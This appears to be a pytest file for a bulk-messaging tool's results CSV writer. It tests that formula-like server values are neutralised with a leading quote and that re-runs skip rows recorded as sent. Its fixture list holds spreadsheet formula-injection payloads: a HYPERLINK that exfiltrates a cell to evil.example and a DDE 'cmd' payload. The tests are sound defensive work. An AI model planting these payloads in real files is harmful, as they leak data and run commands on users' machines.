"""The results CSV never hands a spreadsheet a formula: what the server sends back (message
ids, problem details) is written so that a spreadsheet shows it as text."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from postino_send.outcomes import Outcome, RowResult
from postino_send.results_file import ResultsWriter, read_results, sent_by_key, spreadsheet_safe

FISCAL_CODE = "RSSMRA80A01H501U"
KEY = "postino-send-" + "0" * 64
FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A2,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _raw_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as source:
        return list(csv.reader(source))


@pytest.mark.parametrize("value", FORMULAS)
def test_a_server_value_that_a_spreadsheet_would_run_is_written_as_text(
    tmp_path: Path, value: str
) -> None:
    # GIVEN a server that answers a message id and a problem detail shaped as formulas
    path = tmp_path / "results.csv"
    writer = ResultsWriter(path)
    result = RowResult(1, FISCAL_CODE, Outcome.FAILED, message_id=value, error=value)

    # WHEN the row is recorded, and the file completed
    writer.record(result)
    appended = _raw_cells(path)[1]
    writer.complete([result])

    # THEN both cells start with a quote, in the appended and the complete file alike
    for cells in (appended, _raw_cells(path)[1]):
        assert cells[3] == "'" + value
        assert cells[4] == "'" + value


def test_ordinary_values_are_written_as_they_are(tmp_path: Path) -> None:
    path = tmp_path / "results.csv"
    writer = ResultsWriter(path)
    result = RowResult(
        7, FISCAL_CODE, Outcome.SENT, message_id="01JCZ0000000000000000000C1", idempotency_key=KEY
    )
    writer.complete([result])

    assert read_results(path) == [
        {
            "row": "7",
            "fiscal_code": FISCAL_CODE,
            "outcome": "sent",
            "message_id": "01JCZ0000000000000000000C1",
            "error": "",
            "idempotency_key": KEY,
        }
    ]


def test_the_rows_a_rerun_may_skip_are_those_recorded_sent_with_their_key(
    tmp_path: Path,
) -> None:
    # GIVEN a results file left by a run that sent some rows and not others
    path = tmp_path / "results.csv"
    writer = ResultsWriter(path)
    lines = [
        RowResult(1, FISCAL_CODE, Outcome.SENT, "id-1", idempotency_key="k1"),
        RowResult(2, FISCAL_CODE, Outcome.ALREADY_SENT, "id-2", idempotency_key="k2"),
        RowResult(3, FISCAL_CODE, Outcome.FAILED, error="HTTP 503", idempotency_key="k3"),
        RowResult(4, FISCAL_CODE, Outcome.NOT_SENT, idempotency_key="k4"),
        RowResult(5, FISCAL_CODE, Outcome.WOULD_SEND, idempotency_key="k5"),
        RowResult(6, FISCAL_CODE, Outcome.SENT, "id-6"),  # no key: an older file
    ]
    for line in lines:
        writer.record(line)  # as a crash would leave it: appended, never completed

    # WHEN it is read for a re-run
    known = sent_by_key(path)

    # THEN only the sent rows with a key count, each with its message id
    assert known == {"k1": "id-1", "k2": "id-2"}


def test_a_missing_results_file_knows_no_row(tmp_path: Path) -> None:
    assert sent_by_key(tmp_path / "none.csv") == {}


def test_a_results_file_from_before_keys_were_recorded_knows_no_row(tmp_path: Path) -> None:
    path = tmp_path / "old.csv"
    path.write_text("row,fiscal_code,outcome,message_id,error\n1,X,sent,id-1,\n")

    assert sent_by_key(path) == {}


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("HTTP 400: bad", "HTTP 400: bad"),
        ("a=b", "a=b"),
        ("", ""),
        ("=1", "'=1"),
        ("-", "'-"),
    ],
)
def test_only_a_leading_formula_character_is_neutralised(cell: str, written: str) -> None:
    assert spreadsheet_safe(cell) == written
